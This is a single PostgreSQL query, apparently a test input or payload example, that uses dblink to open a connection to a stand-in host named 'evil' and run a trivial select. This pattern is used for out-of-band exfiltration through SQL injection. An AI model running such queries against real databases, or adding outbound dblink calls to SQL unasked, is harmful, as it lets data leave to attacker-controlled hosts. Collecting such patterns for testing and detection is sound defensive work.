SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
